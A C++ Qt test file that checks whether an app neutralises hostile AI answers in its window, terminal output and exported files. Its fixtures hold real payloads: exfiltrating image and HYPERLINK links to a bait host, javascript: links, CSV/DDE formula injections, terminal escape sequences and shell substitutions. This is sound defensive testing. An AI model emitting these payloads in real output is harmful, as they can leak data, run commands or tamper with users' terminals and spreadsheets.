// SPDX-FileCopyrightText: 2026 The Tessera developers
// SPDX-License-Identifier: GPL-3.0-or-later
//
// 500 answers that mean harm, in the window, on a terminal and in every file that comes of them:
// nothing is started, fetched or opened, no link leads anywhere but to http, https and mailto, no
// control character reaches a terminal, no cell is a formula. Runs with watched_calls loaded.
#include "app/bulk/table.h"
#include "app/cli/console.h"
#include "app/exporting/export_format.h"
#include "tests/app/read_pages.h"
#include "tests/app/zip_file.h"
#include "ui/answer_text.h"

#include <QFile>
#include <QRandomGenerator>
#include <QTest>

#include <fcntl.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <functional>

using namespace app;

namespace {

constexpr int kAnswers = 500;

QStringList fragments() {
    return pages::hostileTexts() +
           QStringList{
               QStringLiteral("![](file:///tmp/bait/secret.png)"),
               QStringLiteral("![x](http://bait.example/leak.png?q=secret)"),
               QStringLiteral("![x](//bait/share/x.png \"title\")"),
               QStringLiteral("![x](data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Lz48L3N2Zz4=)"),
               QStringLiteral("[click](javascript:alert(1))"),
               QStringLiteral("[click](vbscript:x) [click](file:///tmp/bait/run.sh)"),
               QStringLiteral("[click](smb://bait/share) [click](ftp://bait.example/)"),
               QStringLiteral("[click](https://example.org/ok) <https://example.org>"),
               QStringLiteral("[click](tel:123) [click](data:text/html,<script>1</script>)"),
               QStringLiteral("[r][1]\n\n[1]: file:///tmp/bait/ref"),
               QStringLiteral("<a href=\"javascript:alert(1)\">x</a><base href=\"http://bait/\">"),
               QStringLiteral("<link rel=stylesheet href=http://bait.example/x.css>"),
               QStringLiteral("<object data=\"file:///tmp/bait/o\"></object><embed src=//bait/e>"),
               QStringLiteral("<svg onload=alert(1)><use href=\"http://bait/#x\"/></svg>"),
               QStringLiteral("<meta http-equiv=refresh content=\"0;url=http://bait/\">"),
               QStringLiteral("=HYPERLINK(\"http://bait.example/?\"&A1)"),
               QStringLiteral("=cmd|' /C calc'!A0"),
               QStringLiteral("@SUM(1+9)*cmd|' /C calc'!A0"),
               QStringLiteral("+cmd|' /C calc'!A0"),
               QStringLiteral("-2+3+cmd|' /C calc'!A0"),
               QStringLiteral("\x1b]8;;http://bait.example\x1b\\link\x1b]8;;\x1b\\"),
               QStringLiteral("\x1b]52;c;YmFpdA==\x07"),
               QStringLiteral("\x1bP$q\"p\x1b\\ \x1b[6n \x1b[21t \x1b#8"),
               QStringLiteral("over\rwritten\b\b\b\x7f\x0e\x0f"),
               QString(QChar(0x9d)) + QStringLiteral("0;title") + QChar(0x9c),
               QStringLiteral(
                   "$$\\href{javascript:alert(1)}{x}$$ $\\includegraphics{/tmp/bait/x}$"),
               QStringLiteral("```html\n<script src=http://bait/x.js></script>\n```"),
               QStringLiteral("- [ ] `rm -rf bait`\n- [x] $(touch /tmp/bait)"),
               QString(300, u'>') + QStringLiteral(" deep"),
               QString(300, u'[') + QStringLiteral("x") + QString(300, u']'),
               QStringLiteral("| a | b |\n| --- | --- |\n| =1+1 | ![](file:///tmp/bait/t) |"),
               QStringLiteral("<|ref|>x<|/ref|><|det|>[[0,0,9999,-1]]<|/det|>"),
               QString(QChar(0x2028)) + QStringLiteral("=1") + QChar(0x2029) + QChar(0xfeff),
           };
}

// The same on every run.
QString answer(int number) {
    static const QStringList kFragments = fragments();
    static const QStringList kBetween{" ", "\n", "\n\n", "\n- ", "\n> ", "\n# ", "\t", "\n1. ", ""};
    QRandomGenerator random(static_cast<quint32>(number) + 1);
    QString text;
    for (int i = random.bounded(1, 5); i > 0; --i) {
        text += kFragments[random.bounded(int(kFragments.size()))];
        text += kBetween[random.bounded(int(kBetween.size()))];
    }
    return number < kFragments.size() ? kFragments[number] : text;
}

// What a terminal or a reader of text would act on; empty: nothing.
QString controlIn(const QString& text) {
    for (const QChar character : text) {
        const char16_t code = character.unicode();
        const bool isC0 = code < 0x20 && code != '\n' && code != '\t' && code != '\f';
        const bool isC1 = code >= 0x7f && code < 0xa0;
        const bool turns = (code >= 0x202a && code <= 0x202e) || (code >= 0x2066 && code <= 0x2069);
        if (isC0 || isC1 || turns) {
            return QString::number(code, 16);
        }
    }
    return {};
}

// All that the function writes to stdout and stderr when both are a terminal.
QByteArray onATerminal(const std::function<void()>& work) {
    const int terminal = posix_openpt(O_RDWR | O_NOCTTY);
    if (terminal < 0 || grantpt(terminal) != 0 || unlockpt(terminal) != 0) {
        return {};
    }
    const int inner = open(ptsname(terminal), O_RDWR | O_NOCTTY);
    const pid_t child = fork();
    if (child == 0) {
        dup2(inner, STDOUT_FILENO);
        dup2(inner, STDERR_FILENO);
        work();
        std::fflush(nullptr);
        _exit(0);
    }
    close(inner);
    QByteArray written;
    char bytes[4096];
    for (ssize_t count = 0; (count = read(terminal, bytes, sizeof bytes)) > 0;) {
        written.append(bytes, count);
    }
    close(terminal);
    waitpid(child, nullptr, 0);
    return written;
}

// As a spreadsheet takes CSV apart.
QStringList cellsOf(const QString& csv) {
    QStringList cells{QString()};
    bool isQuoted = false;
    for (const QChar character : csv) {
        if (character == u'"') {
            isQuoted = !isQuoted; // a doubled one is two changes
        } else if (!isQuoted && (character == u',' || character == u'\n')) {
            cells.append(QString());
        } else {
            cells.last() += character;
        }
    }
    return cells;
}

QByteArray watched() {
    QFile log(qEnvironmentVariable("WATCH_LOG"));
    return log.open(QIODevice::ReadOnly) ? log.readAll() : QByteArray();
}

} // namespace

class HostileAnswersTest final : public QObject {
    Q_OBJECT

private slots:
    void init();
    void cleanup();

    void inTheWindow();
    void onTheTerminal();
    void inFiles();
    void inConversations();
    void inTables();
};

// The watch is awake, then its notes are empty.
void HostileAnswersTest::init() {
    const QString log = qEnvironmentVariable("WATCH_LOG");
    QVERIFY2(!log.isEmpty(), "to be run by ctest");
    QVERIFY(!QFile::exists(QStringLiteral("/nowhere/bait")));
    QFile bait(QStringLiteral("/nowhere/bait"));
    QVERIFY(!bait.open(QIODevice::ReadOnly));
    QVERIFY(watched().contains("open /nowhere/bait"));
    QVERIFY(QFile::remove(log));
}

void HostileAnswersTest::cleanup() {
    QCOMPARE(watched(), QByteArray());
}

void HostileAnswersTest::inTheWindow() {
    ui::AnswerText view(nullptr);
    view.resize(400, 300);
    view.show();
    for (int number = 0; number < kAnswers; ++number) {
        view.showMarkdown(answer(number), AnswerState::Ended);
        QVERIFY(!view.grab().isNull());
        for (const QString& link : view.links()) {
            QVERIFY2(openableLink(link), qPrintable(link));
        }
        view.showPlain(answer(number));
        QVERIFY(!view.grab().isNull());
    }
    QCoreApplication::processEvents();
}

void HostileAnswersTest::onTheTerminal() {
    qputenv("TERM", "xterm");
    qputenv("NO_COLOR", "1");
    const QByteArray written = onATerminal([] {
        Console console(Verbosity::Verbose);
        for (int number = 0; number < kAnswers; ++number) {
            console.data(answer(number));
            console.warning(answer(number));
            console.progress(answer(number));
            console.detail(answer(number));
            console.error(answer(number));
        }
        console.finish();
    });
    QVERIFY(written.size() > 100'000);
    QString text = QString::fromUtf8(written);
    QVERIFY(text.contains("\r\x1b[K")); // it was a terminal: this clears the line of the progress
    text.remove("\r\x1b[K");
    text.replace("\r\n", "\n");
    QCOMPARE(controlIn(text), QString());
}

void HostileAnswersTest::inFiles() {
    QVector<ReadLine> lines;
    for (int number = 0; number < kAnswers; ++number) {
        for (const QString& line : answer(number).split(u'\n')) {
            lines.append(pages::line(line.isEmpty() ? QStringLiteral("-") : line,
                                     QRectF(0.1, double(number) / kAnswers, 0.8, 0.001), number));
        }
    }
    const ReadDocument document = pages::document({pages::page(0, lines)});
    for (const ExportFormat& format : exportFormats()) {
        if (!format.isOfText() || format.writeText == exportPdf) { // that needs a PDF
            continue;
        }
        const auto made = format.writeText(document);
        QVERIFY2(made, format.name);
        QVERIFY2(format.isBinary || controlIn(QString::fromUtf8(made->bytes)).isEmpty(),
                 format.name);
        if (qstrcmp(format.name, "html") == 0 || qstrcmp(format.name, "hocr") == 0) {
            for (const char* tag : {"<script", "<img", "<iframe", "<a ", "<object", "<base"}) {
                QVERIFY2(!made->bytes.contains(tag), tag);
            }
        }
    }
}

void HostileAnswersTest::inConversations() {
    AskedDocument asked{answer(0), nullptr, {}};
    for (int number = 0; number < kAnswers; ++number) {
        KeptTurn turn;
        turn.asked = {Task::Ask, answer(number), {PagePart{0, {}}}};
        turn.result.text = answer(number);
        asked.turns.append(turn);
    }
    for (const ExportFormat& format : exportFormats()) {
        if (format.writeConversation == nullptr) {
            continue;
        }
        const auto made = format.writeConversation(asked);
        QVERIFY2(made, format.name);
        if (format.isBinary) {
            continue;
        }
        const QString text = QString::fromUtf8(made->bytes);
        QCOMPARE(controlIn(text), QString());
        if (qstrcmp(format.name, "conversation-html") == 0) {
            QVERIFY(!text.contains("<script") && !text.contains("<img") && !text.contains("<base"));
            QVERIFY(!text.contains("href=\"javascript") && !text.contains("href=\"file:"));
            continue;
        }
        for (const MarkdownBlock& block : parseMarkdown(text, AnswerState::Ended)) {
            for (const MarkdownSpan& span : block.spans) {
                QVERIFY2(span.link.isEmpty() || openableLink(span.link), qPrintable(span.link));
                QVERIFY2(span.kind != MarkdownSpan::Kind::Picture, qPrintable(span.text));
            }
        }
    }
}

void HostileAnswersTest::inTables() {
    Table table{{{QStringLiteral("=1+1"), QStringLiteral("=HYPERLINK(0)")}}, {}};
    for (int number = 0; number < kAnswers; ++number) {
        table.rows.append(
            {answer(number), {0}, {{answer(number), {}, AnswerEnd::Complete, 0, {}}}, {}});
    }
    for (const TableFormat& format : tableFormats()) {
        const auto bytes = format.write(table);
        QVERIFY(bytes);
        if (qstrcmp(format.name, "xlsx") == 0) {
            const auto parts = zip_file::entries(*bytes);
            const QByteArray sheet = parts["xl/worksheets/sheet1.xml"];
            QVERIFY(sheet.count("<row ") == kAnswers + 1);
            QVERIFY(!sheet.contains("<f>") && !sheet.contains("<hyperlink"));
            QVERIFY(parts.keys().filter("externalLink").isEmpty());
        } else {
            QCOMPARE(controlIn(QString::fromUtf8(*bytes)), QString());
        }
        for (const QString& cell : qstrcmp(format.name, "csv") == 0
                                       ? cellsOf(QString::fromUtf8(*bytes))
                                       : QStringList()) {
            QVERIFY2(cell.isEmpty() || !QStringLiteral("=+-@\t\r").contains(cell.front()),
                     qPrintable(cell));
        }
    }
}

QTEST_MAIN(HostileAnswersTest)
#include "tst_hostile_answers.moc"
